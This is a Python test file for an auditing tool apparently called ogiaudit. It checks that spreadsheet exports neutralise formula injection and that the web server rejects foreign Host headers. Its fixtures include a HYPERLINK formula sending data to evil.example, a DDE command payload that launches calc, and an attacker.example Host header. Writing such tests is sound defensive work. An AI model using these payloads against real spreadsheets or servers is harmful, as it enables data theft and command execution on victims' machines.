"""Leaks: crawled text never becomes a live spreadsheet formula in any export (query csv/xlsx, digest attachments,
one guard for all), and `ogiaudit serve` answers only the Host names it is served as (DNS rebinding)."""
from __future__ import annotations

import csv
import io
import os
import socket
import subprocess
import sys
import time


import httpx
import pytest

from conftest_db import FakeResult, finding, settings_for  # noqa: F401

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


@pytest.fixture
def db(tmp_path):
    from ogiaudit.pipeline import save_results

    url = f"sqlite:///{tmp_path / 'ogiaudit.db'}"
    settings = settings_for(url, tmp_path)
    findings = [finding("TBL-CELL", "warning", column=f"c{i}", message=text) for i, text in enumerate(HOSTILE)]
    save_results(settings, [FakeResult("=cmd|'/c calc'!A1", 2022, findings)], [None])
    return url


def _cli(*args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "ogiaudit", *args], capture_output=True, text=True, timeout=120)


def test_query_csv_and_xlsx_keep_crawled_text_as_text(db, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "f.csv"
    assert _cli("query", "findings", "--database", db, "--format", "csv", "--output", str(out)).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    cells = [v for r in rows for v in r.values() if v]
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells), cells
    assert "'=cmd|'/c calc'!A1" in {r["机构"] for r in rows}
    xlsx = tmp_path / "f.xlsx"
    assert _cli("query", "findings", "--database", db, "--format", "xlsx", "--output", str(xlsx)).returncode == 0
    ws = load_workbook(xlsx).active
    values = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in values)
    assert not any(isinstance(c.value, str) and c.value.startswith(("=", "+", "@")) for c in values)


def test_every_export_uses_the_same_guard():
    """Query exports, digest attachments and the review desk's lists are all written by ogiaudit.exports, whose
    every cell goes through storage.export.safe_cell: one guard, no other."""
    import inspect

    from ogiaudit import exports
    from ogiaudit.digest import attach
    from ogiaudit.web import actions
    from storage import export

    assert exports.safe_cell is export.safe_cell and exports.append_safe is export.append_safe
    assert "exports." in inspect.getsource(attach.to_csv) and "exports." in inspect.getsource(attach.to_xlsx)
    assert "xlsx_bytes" in inspect.getsource(actions.export)
    assert not hasattr(exports, "neutral")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture
def served(db):
    port = _free_port()
    proc = subprocess.Popen([sys.executable, "-m", "ogiaudit", "serve", "--database", db, "--port", str(port),
                             "--allowed-host", "audit.example.gov.cn"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env={**os.environ})
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        try:
            httpx.get(base + "/", timeout=2)
            break
        except httpx.HTTPError:
            time.sleep(0.3)
    yield base, port
    proc.terminate()
    proc.wait(timeout=30)


def test_serve_answers_only_its_own_host_names(served):
    base, port = served
    assert httpx.get(base + "/").status_code == 200
    assert httpx.get(base + "/", headers={"Host": f"localhost:{port}"}).status_code == 200
    assert httpx.get(base + "/", headers={"Host": "audit.example.gov.cn"}).status_code == 200
    rebound = httpx.get(base + "/ogiaudit/finding.json", headers={"Host": f"attacker.example:{port}"})
    assert rebound.status_code == 400 and "HYPERLINK" not in rebound.text
    assert httpx.get(base + "/", headers={"Host": f"127.0.0.1.attacker.example:{port}"}).status_code == 400

